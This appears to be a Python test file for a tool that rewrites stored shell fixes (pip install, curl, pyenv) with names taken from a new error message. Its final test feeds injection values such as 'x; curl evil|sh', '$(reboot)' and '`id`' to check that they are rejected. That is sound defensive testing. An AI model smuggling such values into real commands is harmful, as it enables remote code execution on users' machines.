"""Keys that tell an error from its siblings, and putting the names of a question into a fix."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coherence.lessons.names import digest, keys_of, number, refill
from coherence.lessons.normal import ErrorShape, Slot


def shape(*slots: tuple[str, str], signature: bytes = b"8 bytes.", prose: bool = False, text: str = "") -> ErrorShape:
    return ErrorShape("", "", text, tuple(Slot(*slot) for slot in slots), signature, prose, False)


def test_keys_of_names_paths_and_addresses_are_keys_and_what_changes_by_itself_is_not() -> None:
    asked = shape(
        ("name", " Yaml "),
        ("path", "/srv/App/Main.py:12:3"),
        ("path", "C:\\work\\Config.INI"),
        ("path", "/etc/"),
        ("url", "https://PyPI.org/simple"),
        ("address", "localhost:5432"),
        ("number", "17"),
        ("version", "3.11"),
        ("id", "deadbeef"),
        ("time", "12:30"),
        ("name", ""),
    )
    assert keys_of(asked) == ("yaml", "main.py", "config.ini", "etc", "https://pypi.org/simple", "localhost:5432")


def test_digest_digests_fit_into_sqlite_and_tell_texts_apart() -> None:
    assert digest(["a", "b"]) != digest(["ab"]) != digest(["b", "a"])
    assert digest(["\ud800"]) >= 0
    assert number(b"\xff" * 8) == 2**63 - 1
    assert number(bytes(8)) == 0


@pytest.mark.parametrize(
    ("slot", "other", "fix", "wanted"),
    [
        (("name", "yaml"), ("name", "numpy"), "pip install yaml", "pip install numpy"),
        (("name", "yaml"), ("name", "numpy"), "pip install pyyaml", "pip install pyyaml"),  # a word of its own only
        (("name", "yaml"), ("name", "yaml"), "pip install yaml", "pip install yaml"),
        (("name", "x"), ("name", "numpy"), "chmod +x run.sh", "chmod +x run.sh"),  # one letter stands everywhere
        (("name", "a.b"), ("name", r"c\1\g0"), "uv add a.b axb", r"uv add c\1\g0 axb"),
        (("name", "--flag"), ("name", "--other"), "drop --flag", "drop --other"),
        (("version", "3.8"), ("version", "3.12"), "pyenv install 3.8", "pyenv install 3.12"),
        (("number", "8080"), ("number", "9090"), "kill what listens on 8080", "kill what listens on 9090"),
        (("number", "12"), ("number", "7"), "sleep 12", "sleep 12"),  # small numbers mean something else
        (("path", "/a/b.py:3"), ("path", "/c/d.py:9"), "edit /a/b.py, then b.py", "edit /c/d.py, then d.py"),
        (("address", "db:5432"), ("address", "redis:6379"), "start db on 5432", "start redis on 6379"),
        (("url", "http://a.de:80/x"), ("url", "http://b.de:81/y"), "curl http://a.de:80/x", "curl http://b.de:81/y"),
        (("url", "http://a.de/x"), ("url", "https://b.de/y"), "ping a.de", "ping b.de"),
    ],
)
def test_refill_a_fix_is_refilled(slot: tuple[str, str], other: tuple[str, str], fix: str, wanted: str) -> None:
    assert refill(fix, shape(slot), shape(other), other[1]) == wanted


def test_refill_a_fix_whose_name_has_no_counterpart_is_not_offered() -> None:
    lesson = shape(("name", "yaml"))
    other = b"another."
    assert refill("pip install yaml", lesson, shape(signature=other), "") is None
    assert refill("pip install yaml", lesson, shape(("name", "a"), ("name", "b"), signature=other), "") is None
    assert refill("pip install yaml", lesson, shape(("path", "/a"), signature=other), "") is None
    assert refill("start over", lesson, shape(signature=other), "") == "start over"


def test_refill_a_name_that_stands_in_the_question_stays() -> None:
    lesson = shape(("name", "yaml"), ("name", "app"))
    asked = shape(("name", "app"), signature=b"another.")
    assert refill("pip install yaml", lesson, asked, "cannot import YAML in app") == "pip install yaml"


def test_refill_a_description_changes_a_fix_by_certain_names_only() -> None:
    lesson = shape(("name", "yaml"))
    word = shape(("name", "stops"), prose=True, text="my program stops", signature=b"another.")
    assert refill("pip install yaml", lesson, word, word.text) == "pip install yaml"
    for name, text in (("py_yaml", "py_yaml is not there"), ("numpy", "python cannot find 'numpy'")):
        asked = shape(("name", name), prose=True, text=text, signature=b"another.")
        assert refill("pip install yaml", lesson, asked, text) == f"pip install {name}"


texts = st.text(max_size=12)
slots = st.tuples(st.sampled_from(["name", "path", "url", "address", "version", "number", "id", "time"]), texts)


@given(st.text(max_size=60), st.lists(slots, max_size=4), st.lists(slots, max_size=4), texts, st.booleans())
def test_no_text_breaks_a_refill(
    fix: str, lesson: list[tuple[str, str]], asked: list[tuple[str, str]], question: str, prose: bool
) -> None:
    found = refill(fix, shape(*lesson), shape(*asked, signature=b"another.", prose=prose), question)
    assert found is None or isinstance(found, str)
    assert refill(fix, shape(*lesson), shape(*lesson), question) == fix  # its own names are its own
    assert all(key and key == key.lower() and len(key) <= 200 for key in keys_of(shape(*lesson)))


@pytest.mark.parametrize("name", ["x; curl evil|sh", "$(reboot)", "`id`", "a b", "-rf", "x&&y", "x>y", "'", "x\ny"])
def test_refill_what_a_shell_would_read_as_more_than_a_word_is_put_into_no_fix(name: str) -> None:
    assert refill("umount old", shape(("name", "old")), shape(("name", name)), "") is None
